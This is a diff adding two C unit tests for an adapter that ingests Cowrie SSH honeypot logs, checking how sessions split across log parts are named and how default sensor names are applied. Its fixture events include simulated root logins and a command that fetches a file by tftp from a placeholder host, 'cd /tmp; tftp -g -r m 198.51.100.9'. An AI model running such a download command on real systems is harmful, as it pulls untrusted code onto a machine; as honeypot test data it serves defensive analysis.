@@ -516,6 +516,99 @@ test_split(void **state)
     cowrie_destroy(&cw);
 }
 
+/*  A session fed in two parts (a log shipper's emissions, cowrie_set_part): each part's
+    share of it gets ids named after the part, so the two appends never share a session id,
+    and together they hold every command and credential of the session; a session whole in
+    one part keeps the ids cadre ingest gives it. The adapter is reused across parts. */
+static void
+test_parts(void **state)
+{
+    (void)state;
+    const char *lines[] = {EV("cowrie.session.connect", "6.6.6.6", "k", "2020-01-01T00:00:00Z", ""),
+                           EV("cowrie.login.failed", "6.6.6.6", "k", "2020-01-01T00:00:02Z",
+                              ",\"username\":\"root\",\"password\":\"1\""),
+                           EV("cowrie.login.success", "6.6.6.6", "k", "2020-01-01T00:00:03Z",
+                              ",\"username\":\"root\",\"password\":\"2\""),
+                           EV("cowrie.command.input", "6.6.6.6", "k", "2020-01-01T00:00:04Z",
+                              ",\"input\":\"uname -a\""),
+                           EV("cowrie.command.input", "6.6.6.6", "k", "2020-01-01T00:00:05Z",
+                              ",\"input\":\"cat /proc/cpuinfo\""),
+                           EV("cowrie.command.input", "6.6.6.6", "k", "2020-01-01T00:00:06Z",
+                              ",\"input\":\"cd /tmp; tftp -g -r m 198.51.100.9\""),
+                           EV("cowrie.command.input", "6.6.6.6", "k", "2020-01-01T00:00:07Z",
+                              ",\"input\":\"echo 1 > /tmp/f\""),
+                           EV("cowrie.session.closed", "6.6.6.6", "k", "2020-01-01T00:00:20Z", ""),
+                           EV("cowrie.session.connect", "7.7.7.7", "w", "2020-01-01T00:00:21Z", ""),
+                           EV("cowrie.command.input", "7.7.7.7", "w", "2020-01-01T00:00:22Z",
+                              ",\"input\":\"uname -a\""),
+                           EV("cowrie.session.closed", "7.7.7.7", "w", "2020-01-01T00:00:23Z", ""),
+                           NULL};
+    cowrie_t *cw = cowrie_new(NULL);
+    s_got_t got = {0};
+    /* Part one: up to the second command; part two: the rest, with session w whole. */
+    for (size_t i = 0; i < 4; i++) {
+        cowrie_feed(cw, lines[i], strlen(lines[i]), i + 1);
+    }
+    cowrie_set_part(cw, "f00d:0");
+    assert_int_equal(cowrie_finish(cw, s_collect, &got), 0);
+    for (size_t i = 4; lines[i]; i++) {
+        cowrie_feed(cw, lines[i], strlen(lines[i]), i + 1);
+    }
+    cowrie_set_part(cw, "f00d:777");
+    assert_int_equal(cowrie_finish(cw, s_collect, &got), 0);
+    assert_int_equal(got.checked, 0);
+    assert_int_equal(got.n, 3);
+    const char *want_k[] = {"k@f00d:0", "k@f00d:0#2", "k@f00d:777", "k@f00d:777#2", "k@f00d:777#3"};
+    size_t n_k = 0, cmds = 0, creds = 0;
+    for (size_t j = 0; j < 2; j++) {
+        const obs_t *o = got.obs[j];
+        assert_string_equal(o->id, "cowrie:6.6.6.6");
+        for (size_t i = 0; i < o->n_sessions; i++) {
+            assert_true(n_k < 5);
+            assert_string_equal(o->sessions[i].id, want_k[n_k++]);
+            cmds += o->sessions[i].n_commands;
+            creds += o->sessions[i].n_creds;
+        }
+    }
+    assert_int_equal(n_k, 5);
+    assert_int_equal(cmds, 4);
+    assert_int_equal(creds, 2);
+    /* Whole in one part: cadre ingest's id. */
+    assert_string_equal(got.obs[2]->id, "cowrie:7.7.7.7");
+    assert_int_equal(got.obs[2]->n_sessions, 1);
+    assert_string_equal(got.obs[2]->sessions[0].id, "w");
+    s_got_clear(&got);
+    /* No tag: cadre ingest's names for every session. */
+    cowrie_set_part(cw, NULL);
+    for (size_t i = 4; i < 8; i++) {
+        cowrie_feed(cw, lines[i], strlen(lines[i]), i + 1);
+    }
+    assert_int_equal(cowrie_finish(cw, s_collect, &got), 0);
+    assert_string_equal(got.obs[0]->sessions[0].id, "k");
+    s_got_clear(&got);
+    cowrie_destroy(&cw);
+}
+
+/*  opts.decky is the sensor of events that carry none, never of those that carry one. */
+static void
+test_default_decky(void **state)
+{
+    (void)state;
+    const char *lines[] = {EV("cowrie.session.connect", "6.6.6.6", "a", "2020-01-01T00:00:00Z", ""),
+                           EV("cowrie.session.connect", "7.7.7.7", "b", "2020-01-01T00:00:01Z",
+                              ",\"sensor\":\"pot-b\""),
+                           NULL};
+    cowrie_opts_t opts = {.decky = "pot-x"};
+    cowrie_t *cw = cowrie_new(&opts);
+    s_got_t got = {0};
+    s_run(cw, lines, &got);
+    assert_int_equal(got.n, 2);
+    assert_string_equal(got.obs[0]->sessions[0].decky, "pot-x");
+    assert_string_equal(got.obs[1]->sessions[0].decky, "pot-b");
+    s_got_clear(&got);
+    cowrie_destroy(&cw);
+}
+
 /*  Every Cowrie event type the adapter reads, and some it ignores. */
 static void
 test_event_types(void **state)
@@ -1045,6 +1138,8 @@ main(void)
         cmocka_unit_test(test_command_phases),
         cmocka_unit_test(test_command_c2),
         cmocka_unit_test(test_split),
+        cmocka_unit_test(test_parts),
+        cmocka_unit_test(test_default_decky),
         cmocka_unit_test(test_event_types),
         cmocka_unit_test(test_old_schema),
         cmocka_unit_test(test_group_sensor),
